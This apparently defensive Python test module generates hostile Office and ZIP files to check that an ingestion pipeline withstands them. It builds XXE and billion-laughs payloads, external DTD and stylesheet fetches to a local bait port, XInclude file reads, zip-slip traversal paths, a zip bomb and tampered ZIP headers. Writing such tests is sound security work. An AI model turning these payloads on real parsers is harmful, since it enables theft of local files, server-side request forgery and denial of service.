"""Office containers that reach out, unfold to too much, or lie about themselves."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Mapping
from functools import cache

from tests.ingest.hostile.base import MB, Bait, Hostile

Parts = Mapping[str, bytes]


@cache
def good(kind: str) -> bytes:
    """A harmless file of `kind`, to be spoilt."""
    stream = io.BytesIO()
    if kind == "docx":
        from docx import Document

        document = Document()
        document.add_paragraph("移机费八十元一次。")
        document.save(stream)
    elif kind == "xlsx":
        from openpyxl import Workbook

        book = Workbook()
        for row in (("题型", "题干", "答案"), ("判断题", "移机费八十元一次。", "对")):
            book.worksheets[0].append(row)
        book.save(stream)
    else:
        from pptx import Presentation

        deck = Presentation()
        slide = deck.slides.add_slide(deck.slide_layouts[5])
        slide.shapes.title.text = "移机费八十元一次。"
        deck.save(stream)
    return stream.getvalue()


MAIN = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": "ppt/slides/slide1.xml"}
LAUGHS = b'<!DOCTYPE a [<!ENTITY b "' + b"b" * 1000 + b'">' + b"".join(
    b'<!ENTITY %c "%s">' % (char, b"&%c;" % (char - 1) * 10) for char in range(ord("c"), ord("m"))
) + b"]>"  # fmt: skip
QUADRATIC = b'<!DOCTYPE a [<!ENTITY b "' + b"b" * 50_000 + b'">]>'


def _doctypes(bait: Bait) -> dict[str, bytes]:
    """What is put before the root element of a part."""
    system = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file://%s">]>' % bait.secret.encode()
    return {
        "十亿笑": LAUGHS,
        "二次膨胀": QUADRATIC,
        "外部实体": system,
        "外部网址": b'<!DOCTYPE a SYSTEM "http://127.0.0.1:%d/a.dtd">' % bait.port,
        "参数实体": b'<!DOCTYPE a [<!ENTITY %% b SYSTEM "http://127.0.0.1:%d/b.dtd"> %%b;]>' % bait.port,
        "迟到的实体": b"<!-- " + b"x" * 70_000 + b" -->" + system,
        "空白后实体": b" " * 70_000 + system,
    }


def spoilt(kind: str, changed: Parts) -> bytes:
    """A good file of `kind` with parts in place of its own, or besides them."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good(kind))) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, changed.get(info.filename, old.read(info)))
        for name in changed.keys() - set(old.namelist()):
            new.writestr(name, changed[name])
    return stream.getvalue()


def part(kind: str, name: str) -> bytes:
    """A part of a good file."""
    with zipfile.ZipFile(io.BytesIO(good(kind))) as archive:
        return archive.read(name)


def _headed(data: bytes, head: bytes) -> bytes:
    """An XML part with `head` before its root and its entity used in the first text."""
    body = data.split(b"?>", 1)[-1]
    cut = body.find(b">", body.find(b"<", 1)) + 1
    return b'<?xml version="1.0" encoding="UTF-8"?>' + head + body[:cut] + b"&b;" + body[cut:]


def office(bait: Bait) -> Iterator[Hostile]:
    for kind, main in MAIN.items():
        own = part(kind, main)
        for what, head in _doctypes(bait).items():
            yield Hostile(f"{what}.{kind}", spoilt(kind, {main: _headed(own, head)}))
        head = _doctypes(bait)["外部实体"]
        for at in ("[Content_Types].xml", "_rels/.rels", "docProps/core.xml"):
            yield Hostile(
                f"{at.split('/')[-1].strip('[].')}实体.{kind}", spoilt(kind, {at: _headed(part(kind, at), head)})
            )
        wide = _headed(own, head).replace(b"UTF-8", b"UTF-16").decode()
        yield Hostile(f"宽字符实体.{kind}", spoilt(kind, {main: wide.encode("utf-16")}))
        odd = head.replace(b"<", b"+ADw-").replace(b">", b"+AD4-")
        seven = b'<?xml version="1.0" encoding="UTF-7"?>' + odd + own.split(b"?>", 1)[-1]
        yield Hostile(f"七位实体.{kind}", spoilt(kind, {main: seven}))
        include = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://%s"/>'
        inside = own.replace(b"</", include % bait.secret.encode() + b"</", 1)
        yield Hostile(f"包含.{kind}", spoilt(kind, {main: inside}))
        yield Hostile(f"样式表.{kind}", spoilt(kind, {main: _styled(own, bait)}))
        yield Hostile(f"很深.{kind}", spoilt(kind, {main: b"<a>" * 100_000 + b"</a>" * 100_000}))
        yield Hostile(f"宏.{kind}", spoilt(kind, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Shell(" + b"x" * 99}))
        yield Hostile(f"外部关系.{kind}", spoilt(kind, {_rels(main): _outward(bait)}))
        yield Hostile(
            f"爬出.{kind}", spoilt(kind, {"../../../../tmp/爬出.txt": b"out", f"..\\..\\{bait.mark}": b"out"})
        )
        yield Hostile(f"绝对.{kind}", spoilt(kind, {bait.mark: b"out"}))
        yield Hostile(f"炸弹.{kind}", spoilt(kind, {"media/zero.xml": b"\0" * 60 * MB}))
        yield Hostile(f"半个.{kind}", good(kind)[: len(good(kind)) * 2 // 3])
        yield Hostile(f"无目录.{kind}", good(kind)[:-60])
        yield Hostile(f"改坏.{kind}", _flipped(good(kind)))
        yield Hostile(f"空部件.{kind}", spoilt(kind, {main: b""}))
        yield Hostile(f"不是XML.{kind}", spoilt(kind, {main: b"\xff\xfe\x00not xml at all"}))
        yield Hostile(f"脚本文字.{kind}", spoilt(kind, {main: own.replace("移机".encode(), SCRIPT_XML)}))


SCRIPT_XML = b"&lt;script&gt;window.__pwned=1&lt;/script&gt;"


def _styled(own: bytes, bait: Bait) -> bytes:
    sheet = b'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:%d/x.xsl"?>' % bait.port
    return own.replace(b"?>", b"?>" + sheet, 1)


def _rels(main: str) -> str:
    folder, _, name = main.rpartition("/")
    return f"{folder}/_rels/{name}.rels"


def _outward(bait: Bait) -> bytes:
    kinds = ("attachedTemplate", "oleObject", "image", "hyperlink", "frame", "subDocument", "externalLinkPath")
    links = "".join(
        f'<Relationship Id="rId9{n}" TargetMode="External" Target="{target}" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/{kind}"/>'
        for n, (kind, target) in enumerate(
            (kind, target)
            for kind in kinds
            for target in (f"http://127.0.0.1:{bait.port}/x", f"file://{bait.secret}", "javascript:alert(1)")
        )
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{links}</Relationships>'.encode()


def _flipped(data: bytes) -> bytes:
    spoilt = bytearray(data)
    for at in range(200, len(spoilt) - 200, 97):
        spoilt[at] ^= 0x55
    return bytes(spoilt)


def zips() -> Iterator[Hostile]:
    for kind in MAIN:
        whole = bytearray(good(kind))
        central = whole.find(b"PK\x01\x02")
        yield Hostile(f"加密标志.{kind}", bytes(_with(whole, central + 8, b"\x01\x00")))
        yield Hostile(f"怪算法.{kind}", bytes(_with(whole, central + 10, b"\x63\x00")))
        yield Hostile(f"谎报大小.{kind}", bytes(_with(whole, central + 24, b"\xff\xff\xff\x7f")))
        yield Hostile(f"谎报校验.{kind}", bytes(_with(whole, central + 16, b"\0\0\0\0")))
        yield Hostile(f"谎报位置.{kind}", bytes(_with(whole, central + 42, b"\xff\xff\xff\x7f")))
        yield Hostile(f"前面有图.{kind}", b"GIF89a" + b"\0" * 500 + bytes(whole))
        yield Hostile(f"又是PDF.{kind}", b"%PDF-1.7\n1 0 obj<<>>endobj\n" + bytes(whole))
        yield Hostile(f"长注释.{kind}", bytes(whole[:-2]) + b"\xff\xff" + b"PK\x05\x06" * 16_000)
        yield Hostile(f"重名部件.{kind}", _twice(kind))
    yield Hostile("很多部件.docx", _many("word/document.xml", 21_000))
    yield Hostile("零字节部件名.docx", spoilt("docx", {"word/a\x00b.xml": b"<a/>", "word/\u202elmx.exe": b"<a/>"}))
    yield Hostile("只有目录尾.xlsx", b"PK\x05\x06" + bytes(18))


def _with(data: bytearray, at: int, new: bytes) -> bytearray:
    copy = bytearray(data)
    copy[at : at + len(new)] = new
    return copy


def _twice(kind: str) -> bytes:
    """Two parts of one name: readers differ on which one counts."""
    import warnings

    stream = io.BytesIO(good(kind))
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(MAIN[kind], b"<a>" * 50)
    return stream.getvalue()


def _many(main: str, count: int) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(main, "<a/>")
        for number in range(count):
            archive.writestr(f"a/{number}", "")
    return stream.getvalue()
